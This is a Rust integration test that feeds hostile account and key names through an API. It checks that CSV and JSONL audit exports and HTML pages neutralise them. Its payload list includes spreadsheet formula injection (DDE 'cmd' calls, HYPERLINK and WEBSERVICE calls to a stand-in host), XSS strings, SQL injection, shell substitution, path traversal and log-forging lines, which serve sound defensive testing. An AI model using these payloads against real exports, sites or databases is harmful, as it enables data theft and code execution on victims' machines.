//! B27: hostile names. Whatever name a user chooses, no cell of an export is a formula, and no
//! response contains a raw control character or markup from it.

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use serde_json::{Value, json};

use super::{export, numbers, page};
use crate::test_app::TestApp;

const HOSTILE: [&str; 84] = [
    // Formulas, plain and in disguise.
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.test?\"&A1,\"Click\")",
    "=IMPORTXML(\"https://evil.test\",\"//a\")",
    "=WEBSERVICE(\"https://evil.test\")",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@A1",
    "=",
    "+",
    "-",
    "@",
    "==1",
    "=\"a\"",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{2003}+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "'=1+1",
    "\"=1+1",
    "\",=1+1,\"",
    "\"\r\n=1+1",
    ";=1+1",
    ",=1+1",
    "a\",\"=1+1",
    "a\n=1+1",
    // Markup and scripts.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><b>",
    "</bdi></td><h1>",
    "javascript:alert(1)",
    "&lt;script&gt;",
    "{{7*7}}",
    "${7*7}",
    "<!--",
    "]]>",
    "</title><script>",
    "<style>*{}</style>",
    "onclick=alert(1)//",
    // Control characters, colours of terminals, lines for logs.
    "a\0b",
    "\u{1b}[31mred",
    "\u{9b}31m",
    "a\u{7}b",
    "a\u{7f}b",
    "a\u{85}b",
    "a\nLevel=ERROR forged",
    "a\u{2028}b",
    "\u{8}\u{8}x",
    // Directions, invisible characters, look-alikes.
    "\u{202e}gnp.exe",
    "\u{2066}x",
    "a\u{200b}b",
    "\u{feff}=1",
    "\u{ad}x",
    "rt_ѕk_",
    "АВС",
    "ＡＢＣ",
    "مفتاح",
    "e\u{301}\u{301}\u{301}\u{301}",
    // What databases and shells could take for themselves.
    "'; DROP TABLE audit_events;--",
    "' OR '1'='1",
    "%",
    "_",
    "\\",
    "$(id)",
    "`id`",
    "../../etc/passwd",
    "null",
];

/// Characters that a spreadsheet may ignore before a formula.
const BEFORE: [&str; 8] = ["", " ", "\u{a0}", "\u{2003}", "'", "\"", ",", "\t"];
/// Characters that start a formula.
const SIGNS: [&str; 13] = [
    "=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹦", "﹢", "﹣", "﹫",
];
/// Harmful contents.
const HARM: [&str; 4] = [
    "cmd|'/C calc'!A0",
    "HYPERLINK(\"//x\",\"y\")",
    "1+1",
    "<script>alert(2)</script>",
];

/// Hostile names: 500 in a full run, otherwise a share.
fn hostile() -> Vec<String> {
    let mut names: Vec<String> = HOSTILE.map(str::to_owned).into();
    for before in BEFORE {
        for sign in SIGNS {
            names.extend(HARM.map(|harm| format!("{before}{sign}{harm}z")));
        }
    }
    assert!(names.len() >= 500, "only {}", names.len());
    let step = if std::env::var_os("ROUNDTABLE_PROVE").is_some() {
        1
    } else {
        5
    };
    let built = names.split_off(HOSTILE.len());
    names.extend(built.into_iter().step_by(step));
    names
}

/// All cells of a file, parsed strictly by RFC 4180: all quoted, quotes doubled, lines end with CR
/// LF.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut rest) = (Vec::new(), Vec::new(), text);
    while !rest.is_empty() {
        let mut cell = String::new();
        rest = rest.strip_prefix('"').expect("a quoted cell");
        loop {
            let (before, after) = rest.split_once('"').expect("an end");
            cell.push_str(before);
            match after.strip_prefix('"') {
                Some(more) => {
                    cell.push('"');
                    rest = more;
                }
                None => {
                    rest = after;
                    break;
                }
            }
        }
        row.push(cell);
        match rest.strip_prefix(',') {
            Some(more) => rest = more,
            None => {
                rest = rest
                    .strip_prefix("\r\n")
                    .expect("the end of a line");
                rows.push(std::mem::take(&mut row));
            }
        }
    }
    rows
}

// B27
#[tokio::test]
async fn hostile_names_are_harmless_in_exports_and_pages() {
    let app = TestApp::new().await;
    let olivia = app.someone("olivia").await;
    let key = app
        .key_of(&olivia)
        .await
        .plain
        .expose()
        .to_owned();
    let (mut taken, mut refused) = (Vec::new(), 0);
    let names = hostile();
    for name in names.iter().map(String::as_str) {
        // A key, an account with that name, and an object that the account creates.
        let made = app
            .post("/api/v1/keys", &key, json!({ "label": name }))
            .await;
        if made.status != StatusCode::CREATED {
            assert_eq!(
                made.status,
                StatusCode::UNPROCESSABLE_ENTITY,
                "{name:?}: {}",
                made.text
            );
            refused += 1;
            continue;
        }
        let account = app
            .post(
                "/api/v1/service-accounts",
                &key,
                json!({ "name": name }),
            )
            .await
            .json();
        let its = app
            .post(
                "/api/v1/keys",
                &key,
                json!({ "actor_id": account["actor_id"], "label": name }),
            )
            .await
            .json();
        let request = Request::post("/api/v1/workspaces")
            .header("x-api-key", its["api_key"].as_str().expect("a key"));
        let request = request
            .header("user-agent", "\t=cmd|'/C calc'!A0\t<b>")
            .header("content-type", "application/json");
        let body = Body::from(json!({ "name": name, "provider": "openai" }).to_string());
        assert_eq!(
            app.send(request.body(body).expect("request"))
                .await
                .status,
            StatusCode::CREATED,
            "{name:?}"
        );
        taken.push(name.trim());
    }
    assert!(
        taken.len() >= 60 && refused >= 12,
        "{} accepted, {refused} rejected",
        taken.len()
    );
    let seen = |text: &str| {
        taken
            .iter()
            .filter(|name| text.contains(**name))
            .count()
    };

    let table = export(&app, &olivia, "", "csv").await.text;
    let rows = cells(&table);
    assert!(rows.len() > taken.len() * 4 && rows.iter().all(|row| row.len() == 15));
    for cell in rows.iter().flatten() {
        let first = cell.trim_start().chars().next();
        assert!(
            !first.is_some_and(|char| "=+-@＝＋－＠−﹦﹢﹣﹫".contains(char)),
            "a formula: {cell:?}"
        );
        assert!(
            !cell.chars().any(char::is_control),
            "a control character: {cell:?}"
        );
    }
    assert!(
        !table
            .replace("\r\n", "")
            .chars()
            .any(char::is_control)
    );
    assert!(
        seen(&rows.concat().join(" ")) >= 60,
        "the export contains the names"
    );

    let lines = export(&app, &olivia, "", "jsonl").await.text;
    assert!(
        lines
            .lines()
            .all(|line| serde_json::from_str::<Value>(line).is_ok())
    );
    assert!(
        !lines
            .replace('\n', "")
            .chars()
            .any(char::is_control)
    );
    let read: Vec<String> = lines
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).expect("json")["actor_name"].to_string())
        .collect();
    assert!(read.len() > taken.len() * 4);

    let api = app
        .get("/api/v1/audit-log?limit=200", &key)
        .await
        .text;
    assert!(!api.chars().any(char::is_control));
    let (mut before, mut shown) = (String::new(), 0);
    loop {
        let html = page(&app, &olivia, &format!("audit-log{before}")).await;
        assert!(
            !html
                .chars()
                .any(|char| char.is_control() && char != '\n' && char != '\t'),
            "a control character on a page"
        );
        for markup in [
            "<script>alert",
            "<img src=x",
            "<svg onload",
            "</bdi></td><h1>",
            "<style>*",
            "<b>",
            "</title><script>",
        ] {
            assert!(!html.contains(markup), "{markup} is in the page");
        }
        shown += numbers(&html).len();
        let Some(last) = numbers(&html)
            .last()
            .copied()
            .filter(|_| html.contains("rel=\"next\""))
        else {
            break;
        };
        before = format!("?before={last}");
    }
    assert!(shown > taken.len() * 4);
    let answer = app
        .call(
            Method::GET,
            "/api/v1/audit-log?action=key.created&limit=1",
            &key,
            Value::Null,
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK);
}
